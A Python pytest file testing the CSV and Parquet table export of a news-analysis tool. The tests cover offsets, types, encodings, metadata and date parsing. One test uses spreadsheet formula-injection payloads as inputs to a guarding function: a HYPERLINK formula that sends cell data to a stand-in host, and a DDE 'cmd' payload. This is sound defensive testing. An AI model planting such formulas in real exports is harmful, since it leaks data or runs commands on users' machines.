"""The tables of a case, written as CSV and Parquet and read back by programs that are not ours."""

from __future__ import annotations

import csv
import dataclasses
import io
import itertools
import json
import types
import typing
from collections.abc import Iterable, Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pandas
import polars
import pyarrow.parquet
import pytest
from hypothesis import given
from hypothesis import strategies as st

from stemma.model import Case, Span, StemmaError
from stemma.show.export import parquet_tables
from stemma.show.export.columns import day, instant, lookup_of
from stemma.show.export.contract import case_document
from stemma.show.export.csv_tables import csv_files, guarded, unguarded
from stemma.show.export.parquet_tables import parquet_files
from stemma.show.export.tables import TABLES
from tests.conftest import Command
from tests.factories import report
from tests.show.cases import full_case, hostile_case

PYTHON_TYPES = {"text": str, "integer": int, "number": float, "boolean": bool, "datetime": datetime, "date": date}


def as_csv(case: Case) -> dict[str, list[dict[str, str]]]:
    """The tables as Python's csv module reads them, by name."""
    return {
        Path(name).stem: list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        for name, data in csv_files(case)
        if name.endswith(".csv")
    }


def as_parquet(case: Case) -> dict[str, polars.DataFrame]:
    """The tables as polars, whose Parquet reader is not the one that wrote them, reads them, by name."""
    return {Path(name).stem: polars.read_parquet(io.BytesIO(data)) for name, data in parquet_files(case)}


def spans(columns: Iterable[str]) -> Iterator[tuple[str, str, str, str]]:
    """Of a table's columns those that select words: report, start, end, words."""
    names = list(columns)
    for name in names:
        if name.endswith("words") and name.removesuffix("words") + "start" in names:
            prefix = name.removesuffix("words")
            own = f"{prefix}report"
            yield own if own in names else "report", f"{prefix}start", f"{prefix}end", name


def checked_in_csv(case: Case) -> int:
    """How many spans the tables have as CSV; each selects the words beside it."""
    files = dict(csv_files(case))
    texts = {one["report"]: one["text"] for one in map(json.loads, files["texts.jsonl"].splitlines())}
    checked = 0
    for rows in as_csv(case).values():
        for row in rows:
            for where, start, end, words in spans(row):
                if row[start]:
                    assert texts[unguarded(row[where])][int(row[start]) : int(row[end])] == unguarded(row[words])
                    checked += 1
    return checked


def checked_in_parquet(case: Case) -> int:
    """How many spans the tables have as Parquet; each selects the words beside it."""
    tables = as_parquet(case)
    texts = dict(tables["texts"].iter_rows())
    checked = 0
    for table in tables.values():
        for where, start, end, words in spans(table.columns):
            for ident, first, last, selected in table.select(where, start, end, words).iter_rows():
                if first is not None:
                    assert texts[ident][first:last] == selected
                    checked += 1
    return checked


def test_every_offset_selects_the_words_beside_it() -> None:
    assert checked_in_csv(full_case()) == checked_in_parquet(full_case()) > 30


def test_offsets_hold_in_a_hostile_text_but_for_halves_of_characters() -> None:
    tables = as_parquet(hostile_case())
    texts = dict(tables["texts"].iter_rows())
    row = tables["claim_members"].row(0, named=True)
    assert texts["bad"][row["start"] : row["end"]] == row["words"]
    assert len(texts["bad"]) == tables["reports"].filter(polars.col("id") == "bad")["characters"][0]


def test_pandas_and_polars_read_the_same_of_csv() -> None:
    for name, data in csv_files(full_case()):
        if name.endswith(".csv"):
            one = pandas.read_csv(io.BytesIO(data))
            other = polars.read_csv(data, infer_schema_length=None)
            assert list(one.columns) == other.columns == [column.name for column in TABLES[Path(name).stem].columns]
            assert len(one) == len(other), name


def test_a_text_with_lines_quotes_and_commas_comes_back_whole() -> None:
    words = 'He said: "No,\r\nnever",\nand left;\tsilence, \x0b "'
    case = Case(reports=(report("r,1", words, title=words, byline=""),))
    (row,) = as_csv(case)["reports"]
    assert (row["id"], row["title"]) == ("r,1", words)
    data = dict(csv_files(case))["reports.csv"]
    assert pandas.read_csv(io.BytesIO(data), keep_default_na=False)["title"][0] == words
    assert polars.read_csv(data)["title"][0] == words


def test_an_empty_text_is_told_from_nothing() -> None:
    data = dict(csv_files(Case(reports=(report("r1", "x", title=""),))))["reports.csv"]
    read = polars.read_csv(data)
    assert (read["title"][0], read["byline"][0]) == ("", None)


def test_excel_is_told_that_it_is_utf8() -> None:
    assert all(data.startswith(b"\xef\xbb\xbf") for name, data in csv_files(full_case()) if name.endswith(".csv"))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://taker.example/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2",
        "@SUM(1)",
        "  =1",
        "＝1+1",
        "fine;=1+1",
        "fine\n=1+1",
        "fine\t@x",
        "'=1",
    ],
)
def test_what_a_spreadsheet_would_take_for_a_formula_is_marked(text: str) -> None:
    cell = guarded(text)
    starts = [0, *(at + 1 for at, sign in enumerate(cell) if sign in ";\t\r\n")]
    assert cell != text
    assert all(not cell[at:].lstrip(" \u00a0").startswith(("=", "+", "-", "@", "＝")) for at in starts)
    assert unguarded(cell) == text


@pytest.mark.parametrize("text", ["", "Fire at dawn", "'It is over,' she said", "5 - 3 = 2", "a=b", "„Nein“, sagte er"])
def test_other_words_stand_as_they_are(text: str) -> None:
    assert guarded(text) == text


@given(st.text(alphabet="=+-@＝' \u00a0;\t\r\nab"))
def test_the_mark_can_always_be_taken_away_again(text: str) -> None:
    assert unguarded(guarded(text)) == text


def test_ids_are_marked_alike_wherever_they_stand() -> None:
    case = Case(reports=(report("@channel/1", "One."), report("@channel/2", "Two.", revision_of="@channel/1")))
    rows = as_csv(case)["reports"]
    assert rows[1]["revision_of"] == rows[0]["id"] == "'@channel/1"


def test_what_utf8_can_not_hold_costs_no_offset() -> None:
    text = "half \ud800 and \x00 none"
    row = as_csv(Case(reports=(report("r1", text, title=text),)))["reports"][0]
    assert row["title"] == "half \ufffd and \ufffd none"
    table = as_parquet(Case(reports=(report("r1", text),)))["texts"]
    assert table["text"][0] == "half \ufffd and \x00 none"
    lines = dict(csv_files(Case(reports=(report("r1", text),))))["texts.jsonl"]
    assert json.loads(lines)["text"] == text


def test_parquet_keeps_types() -> None:
    tables = as_parquet(full_case())
    assert tables["places"].schema["latitude"] == polars.Float64
    assert tables["claims"].schema["hedged"] == polars.Boolean
    assert tables["claims"].schema["at_most"] == polars.Int64
    assert tables["claim_rivals"].schema["value"] == polars.Float64  # no row, and typed all the same
    reports = tables["reports"].rows_by_key("id", named=True, unique=True)
    assert reports["post"]["published_at"] == datetime(2031, 5, 2, 5, 10, tzinfo=UTC)
    assert (reports["wire"]["published_at"], reports["wire"]["published_on"]) == (None, date(2031, 5, 2))


def test_parquet_says_what_its_columns_mean() -> None:
    for name, data in parquet_files(full_case()):
        schema = pyarrow.parquet.read_schema(io.BytesIO(data))
        table = TABLES[Path(name).stem]
        assert schema.metadata[b"description"].decode() == table.one_row
        told = [schema.field(column.name).metadata[b"description"].decode() for column in table.columns]
        assert told == [column.meaning for column in table.columns]


def test_without_pyarrow_it_is_said_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(__import__("sys").modules, "pyarrow", None)
    with pytest.raises(StemmaError, match=r"stemma-news\[parquet\]"):
        list(parquet_files(full_case()))
    assert parquet_tables.__name__  # it is importable without


@pytest.mark.parametrize("write", [csv_files, parquet_files])
def test_the_same_case_gives_the_same_bytes(write: Any) -> None:
    assert list(write(full_case())) == list(write(full_case()))


def test_values_are_of_their_columns_kind() -> None:
    case = full_case()
    lookup = lookup_of(case)
    for table in TABLES.values():
        for row in table.cells(case, lookup):
            for column, value in zip(table.columns, row, strict=True):
                assert value is None or type(value) is PYTHON_TYPES[column.kind], f"{table.name}.{column.name}"


def test_what_a_column_leads_to_is_a_column() -> None:
    columns = {f"{table.name}.{column.name}" for table in TABLES.values() for column in table.columns}
    assert {column.leads_to for table in TABLES.values() for column in table.columns} - {None} <= columns


def test_names_of_columns_are_good_in_every_program() -> None:
    for table in TABLES.values():
        names = [column.name for column in table.columns]
        assert len(set(names)) == len(names)
        assert all(name.isidentifier() and name.islower() for name in (table.name, *names))


def test_everything_in_the_export_format_is_in_the_tables() -> None:
    case = Filler().case()
    held = {str(value) for table in as_parquet(case).values() for row in table.iter_rows() for value in row}
    wanted = {str(value) for key, value in scalars(case_document(case)) if key not in ("format", "captured")}
    assert wanted <= held, sorted(wanted - held)


class Filler:
    """Makes a case of which every field holds a value that stands nowhere else."""

    def __init__(self) -> None:
        self._number = itertools.count(1000)

    def case(self) -> Case:
        return typing.cast(Case, self.of(Case))

    def of(self, hint: Any) -> Any:
        origin, arguments = typing.get_origin(hint), typing.get_args(hint)
        if origin in (types.UnionType, typing.Union):
            return self.of(next(one for one in arguments if one is not type(None)))
        if origin is tuple:
            return tuple(self.of(one) for one in arguments if one is not Ellipsis)
        if dataclasses.is_dataclass(hint):
            hints = typing.get_type_hints(hint)
            return typing.cast(Any, hint)(
                **{field.name: self.of(hints[field.name]) for field in dataclasses.fields(hint)}
            )
        if hint is Span:
            return Span(next(self._number), next(self._number))
        number = next(self._number)
        return {int: number, float: number + 0.5, bool: True}.get(hint, f"value-{number}")


def scalars(value: Any, key: str = "") -> Iterator[tuple[str, Any]]:
    if isinstance(value, dict):
        for name, inner in value.items():
            yield from scalars(inner, name)
    elif isinstance(value, list):
        for inner in value:
            yield from scalars(inner, key)
    elif value is not None:
        yield key, value


@pytest.mark.parametrize(
    ("value", "found"),
    [
        ("2031-05-02T07:10:00+02:00", datetime(2031, 5, 2, 5, 10, tzinfo=UTC)),
        ("2031-05-02T07:10:00", None),
        ("2031-05-02", None),
        ("0001-01-01T00:00:00+14:00", None),
        ("soon, they say", None),
        (None, None),
    ],
)
def test_an_instant_is_only_what_names_its_zone(value: str | None, found: datetime | None) -> None:
    assert instant(value) == found


def test_a_day_is_the_one_that_is_stated() -> None:
    assert day("2031-05-02T23:10:00-08:00") == date(2031, 5, 2)
    assert day("last week") is None


def test_the_command_writes_a_folder_or_a_zip(stemma: Command, tmp_path: Path) -> None:
    page = tmp_path / "page.txt"
    page.write_text("The bridge is closed, mayor Ada Brandt said.", encoding="utf-8")
    stemma("build", tmp_path / "case", page, "--reader", "rules", "-q")
    assert stemma("export", tmp_path / "case", "--as", "csv", "-o", tmp_path / "out").code == 0
    assert {path.stem for path in (tmp_path / "out").iterdir()} >= set(TABLES)
    assert stemma("export", tmp_path / "case", "--as", "parquet", "-o", tmp_path / "out.zip").code == 0
    assert polars.read_csv(tmp_path / "out" / "statements.csv")["speaker_name"][0] == "Ada Brandt"
